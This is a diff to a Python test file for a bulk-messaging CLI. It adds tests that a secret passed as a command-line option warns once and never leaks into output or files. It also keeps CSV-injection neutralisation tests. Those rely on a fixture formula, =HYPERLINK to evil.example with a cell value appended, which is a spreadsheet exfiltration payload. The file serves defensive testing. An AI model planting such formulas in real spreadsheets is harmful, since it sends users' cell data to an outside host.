@@ -1,9 +1,10 @@
-"""Finding 11 of issue 9: header cells are neutralised in CSV reports and failures files like
-data cells, and bulk reads its own report's headers back as they were."""
+"""Findings 11 and 13 of issue 9: header cells are neutralised in CSV reports and failures
+files like data cells (and read back as they were); a secret given as an option warns."""
 
 from __future__ import annotations
 
 import csv
+from collections.abc import Callable
 from pathlib import Path
 
 import polars as pl
@@ -13,7 +14,7 @@ from click.testing import CliRunner
 from bulk.cli import main
 from bulk.inputs import load_rows, neutralise_frame
 from bulk.inputs._csvsafe import restore_header
-from tests.conftest import write_csv
+from tests.conftest import ThreadedSandbox, write_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
 HEADER = f'number,campaign,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),-x,plain'
@@ -70,3 +71,45 @@ def test_a_header_is_restored_only_where_bulk_added_the_apostrophe() -> None:
     assert restore_header("'+14155550100") == "'+14155550100"  # a number is never guarded
     frame = neutralise_frame(pl.DataFrame({"=x": ["a"], "'=x": ["b"]}))
     assert frame.columns == ["''=x", "'=x"]
+
+
+# --- finding 13: a secret given as an option is visible in ps --------------------------------
+
+
+@pytest.mark.parametrize("provider", ["plivo", "agentmessage"])
+def test_a_secret_given_as_an_option_warns_once_and_never_appears(
+    provider: str,
+    tmp_path: Path,
+    sandbox_factory: Callable[..., ThreadedSandbox],
+) -> None:
+    sb = sandbox_factory()
+    secret_option, env = (
+        ("--auth-token", "PLIVO_AUTH_TOKEN")
+        if provider == "plivo"
+        else ("--api-key", "AGENTMESSAGE_API_KEY")
+    )
+    secret = sb.env(provider)[env]
+    campaign = "CUOGHIN" if provider == "plivo" else "4f1c2d3e-0000-4000-8000-000000000001"
+    src = write_csv(tmp_path / "in.csv", "number", ["+14155550103"])
+    args = ["link", str(src), "--provider", provider, "--campaign", campaign]
+    args += ["--base-url", sb.base_url, "--yes", "--quiet", "--poll-interval", "0.2"]
+    args += ["--report", "r.csv", "--journal", "j", "--rate", "50"]
+    if provider == "plivo":
+        args += ["--auth-id", sb.plivo_auth_id]
+    given = CliRunner().invoke(main, [*args, secret_option, secret], env={env: ""})
+    assert given.exit_code == 0, given.output
+    warning = f"bulk: warning: {secret_option} on the command line is visible to other users"
+    assert given.stderr.count(warning) == 1, given.stderr
+    assert f"set {env} in the environment instead" in " ".join(given.stderr.split())
+    written = [p.read_bytes() for p in tmp_path.iterdir() if p.is_file()]
+    for text in (given.output, given.stdout, given.stderr, *map(repr, written)):
+        assert secret not in text
+    (tmp_path / "j").unlink()
+    from_env = CliRunner().invoke(main, args, env={env: secret})
+    assert from_env.exit_code == 0, from_env.output
+    assert "warning" not in from_env.stderr
+
+
+def test_help_recommends_the_environment_for_secrets() -> None:
+    text = " ".join(CliRunner().invoke(main, ["link", "--help"]).output.split())
+    assert "visible to other users in the process list" in text
